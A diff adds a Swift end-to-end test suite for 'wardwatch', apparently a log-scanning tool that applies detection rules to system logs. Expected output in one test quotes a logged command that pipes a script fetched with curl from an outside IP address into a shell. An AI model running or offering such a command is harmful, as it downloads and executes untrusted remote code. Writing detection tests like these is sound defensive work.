@@ -1,0 +1,166 @@
+import Foundation
+import Testing
+import WardTestSupport
+
+#if canImport(Glibc)
+import Glibc
+#endif
+
+@Suite struct ScanCommandTests {
+    func expected(_ name: String) throws -> String {
+        try String(contentsOf: Paths.root.appendingPathComponent("Tests/EndToEndTests/Expected/\(name)"), encoding: .utf8)
+    }
+
+    /// The README's main job: the bundled rules over SampleLogs, alert for alert.
+    @Test func sampleLogsGiveTheGoldenAlerts() throws {
+        let run = try wardwatch(["scan", "--year", "2026", "SampleLogs"])
+        #expect(run.status == 0)
+        #expect(run.stdout == (try expected("scan-samplelogs.jsonl")))
+        #expect(run.stdout.split(separator: "\n").count == 20)
+        #expect(run.stderr.contains("  alerts: 20 (critical 1, high 5, medium 6, low 8)\n"))
+        #expect(run.stderr.contains("  events by dataset: unparsed 18, syslog.rfc3164 36, syslog.rfc5424 7\n"))
+        for line in run.stdout.split(separator: "\n") {
+            let object = try JSONSerialization.jsonObject(with: Data(line.utf8)) as! [String: Any]
+            #expect(object["rule.author"] as? String == "wardwatch")
+            #expect((object["rule.matched"] as? [String])?.isEmpty == false)
+        }
+    }
+
+    @Test func loghubWithASmallRuleSetGivesTheGoldenAlerts() throws {
+        let run = try wardwatch(["scan", "--year", "2017", "--rules", "Rules/linux/lnx_sshd_max_auth_attempts.yml",
+                                 "--rules", "../shared/sigma/rules/linux/builtin",
+                                 "../shared/samples/loghub/OpenSSH/OpenSSH_2k.log", "../shared/samples/loghub/Linux/Linux_2k.log"])
+        #expect(run.status == 0)
+        #expect(run.stdout == (try expected("scan-loghub.jsonl")))
+        #expect(run.stderr.contains("  rules: 23 loaded, 23 for log sources with events\n"))
+    }
+
+    @Test func outputIsByteIdenticalForOneAndFourThreads() throws {
+        let dir = try Paths.temporaryDirectory()
+        let big = dir.appendingPathComponent("auth-month.log")
+        let one = try Data(contentsOf: Paths.sample("loghub/OpenSSH/OpenSSH_2k.log"))
+        var data = Data()
+        for _ in 0..<30 { data.append(one) }
+        try data.write(to: big)  // 6.8 MB, several chunks
+        let single = try wardwatch(["scan", "--year", "2017", "--threads", "1", big.path])
+        let four = try wardwatch(["scan", "--year", "2017", "--threads", "4", big.path])
+        #expect(single.status == 0 && four.status == 0)
+        #expect(single.stdout.split(separator: "\n").count == 634 * 30)
+        #expect(four.stdout == single.stdout)
+    }
+
+    @Test func exitCodes() throws {
+        // 0: no alert, or alerts without --fail-on-alert.
+        let quiet = try wardwatch(["scan", "--rules", "Rules/hospital", "SampleLogs/linux/auth.log"])
+        #expect(quiet.status == 0 && quiet.stdout.isEmpty)
+        // 1: alerts with --fail-on-alert.
+        let alerting = try wardwatch(["scan", "--fail-on-alert", "SampleLogs/linux/auth.log"])
+        #expect(alerting.status == 1)
+        // 2: a broken rule (nothing scanned) or a bad flag.
+        let broken = try wardwatch(["scan", "--rules", "Tests/EndToEndTests/Fixtures/rules-mixed", "SampleLogs/linux/auth.log"])
+        #expect(broken.status == 2)
+        #expect(broken.stdout.isEmpty)
+        #expect(broken.stderr.hasSuffix("wardwatch: error: the rules have errors; nothing was scanned ('wardwatch rules lint' lists them all).\n"))
+        let badFlag = try wardwatch(["scan", "--min-level", "urgent", "SampleLogs"])
+        #expect(badFlag.status == 2)
+        #expect(badFlag.stderr.hasPrefix("Error: '--min-level' must be informational, low, medium, high or critical, not 'urgent'."))
+        // 3: an input error; the other inputs are still scanned.
+        let missing = try wardwatch(["scan", "--fail-on-alert", "/no/such.log", "SampleLogs/linux/auth.log"])
+        #expect(missing.status == 3)
+        #expect(missing.stderr.hasPrefix("wardwatch: error: /no/such.log: no such file or directory.\n"))
+        #expect(missing.stdout.split(separator: "\n").count == 11)
+    }
+
+    @Test func aGzipThatBreaksHalfwayKeepsTheAlertsBeforeTheBreak() throws {
+        let dir = try Paths.temporaryDirectory()
+        let text = Array(try Data(contentsOf: Paths.sample("loghub/OpenSSH/OpenSSH_2k.log")))
+        let compressed = gzipMember(text)
+        let cut = dir.appendingPathComponent("auth.log.4.gz")
+        try Data(compressed[0..<(compressed.count / 2)]).write(to: cut)
+        let run = try wardwatch(["scan", "--year", "2017", cut.path])
+        #expect(run.status == 3)
+        #expect(run.stderr.hasPrefix("wardwatch: error: \(cut.path): byte \(compressed.count / 2) (decompressed byte "))
+        let alerts = run.stdout.split(separator: "\n")
+        #expect(alerts.count > 100 && alerts.count < 634)
+        let full = try wardwatch(["scan", "--year", "2017", Paths.sample("loghub/OpenSSH/OpenSSH_2k.log").path])
+        let fullAlerts = full.stdout.split(separator: "\n").map { $0.replacingOccurrences(of: Paths.sample("loghub/OpenSSH/OpenSSH_2k.log").path, with: cut.path) }
+        #expect(alerts.map(String.init) == Array(fullAlerts.prefix(alerts.count)))
+    }
+
+    @Test func outputFileIsPrivateAndAppendedAndFoldersGetOneFilePerLevel() throws {
+        let dir = try Paths.temporaryDirectory()
+        let file = dir.appendingPathComponent("alerts.jsonl")
+        for _ in 0..<2 {
+            let run = try wardwatch(["scan", "--year", "2026", "--output", file.path, "SampleLogs"])
+            #expect(run.status == 0 && run.stdout.isEmpty)
+        }
+        let attributes = try FileManager.default.attributesOfItem(atPath: file.path)
+        #expect((attributes[.posixPermissions] as? Int) == 0o600)
+        let golden = try expected("scan-samplelogs.jsonl")
+        #expect(try String(contentsOf: file, encoding: .utf8) == golden + golden)
+
+        let folder = dir.appendingPathComponent("by-level").path + "/"
+        let run = try wardwatch(["scan", "--year", "2026", "--output", folder, "SampleLogs"])
+        #expect(run.status == 0)
+        var counts: [String: Int] = [:]
+        for level in ["critical", "high", "medium", "low", "informational"] {
+            let text = try String(contentsOfFile: folder + "\(level).jsonl", encoding: .utf8)
+            counts[level] = text.split(separator: "\n").count
+            for line in text.split(separator: "\n") { #expect(line.contains("\"rule.level\":\"\(level)\"")) }
+        }
+        #expect(counts == ["critical": 1, "high": 5, "medium": 6, "low": 8, "informational": 0])
+    }
+
+    @Test func timeWindowAndMinimumLevelFilter() throws {
+        let run = try wardwatch(["scan", "--year", "2026", "--since", "2026-11-22T07:00:00Z", "--until", "2026-11-22T08:00:00Z",
+                                 "--min-level", "high", "SampleLogs"])
+        #expect(run.status == 0)
+        let names = try run.stdout.split(separator: "\n").map { line -> String in
+            let object = try JSONSerialization.jsonObject(with: Data(line.utf8)) as! [String: Any]
+            return object["rule.name"] as! String
+        }
+        #expect(names == ["Root shell opened through sudo", "Download piped into a shell",
+                          "System or application logs truncated or deleted", "Failed password for the database superuser"])
+        #expect(run.stderr.contains("only events inside --since/--until were matched"))
+    }
+
+    @Test func prettyLinesForPeople() throws {
+        let run = try wardwatch(["scan", "--year", "2026", "--format", "pretty", "--min-level", "critical", "SampleLogs"])
+        #expect(run.stdout == "2026-11-22T07:36:52Z  CRITICAL      Download piped into a shell  ehr-app01  SampleLogs/linux/auth.log:18  jmiller : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/bash -c curl -fsSL http://45.133.1.20/upd.sh | sh\n")
+    }
+
+    /// SIGINT: what was matched is written, the summary printed, and the exit code says so.
+    @Test func interruptFlushesWhatWasWritten() throws {
+        let bundle = URL(fileURLWithPath: CommandLine.arguments[0]).resolvingSymlinksInPath()
+        var directory = bundle.deletingLastPathComponent()
+        while !FileManager.default.isExecutableFile(atPath: directory.appendingPathComponent("wardwatch").path) {
+            directory = directory.deletingLastPathComponent()
+        }
+        let dir = try Paths.temporaryDirectory()
+        let file = dir.appendingPathComponent("alerts.jsonl")
+        let process = Process()
+        process.executableURL = directory.appendingPathComponent("wardwatch")
+        process.arguments = ["scan", "--year", "2026", "--output", file.path, "-"]
+        process.currentDirectoryURL = Paths.root
+        let input = Pipe()
+        let err = Pipe()
+        process.standardInput = input
+        process.standardError = err
+        try process.run()
+        input.fileHandleForWriting.write(try Data(contentsOf: Paths.root.appendingPathComponent("SampleLogs/linux/auth.log")))
+        // Wait until the alerts of what was sent are on disk, with stdin still open.
+        var written = 0
+        for _ in 0..<100 {
+            written = ((try? String(contentsOf: file, encoding: .utf8)) ?? "").split(separator: "\n").count
+            if written == 11 { break }
+            usleep(50_000)
+        }
+        #expect(written == 11)
+        kill(process.processIdentifier, SIGINT)
+        process.waitUntilExit()
+        #expect(process.terminationStatus == 130)
+        let stderr = String(decoding: err.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self)
+        #expect(stderr.contains("  alerts: 11 "))
+        #expect(try String(contentsOf: file, encoding: .utf8).split(separator: "\n").count == 11)
+    }
+}
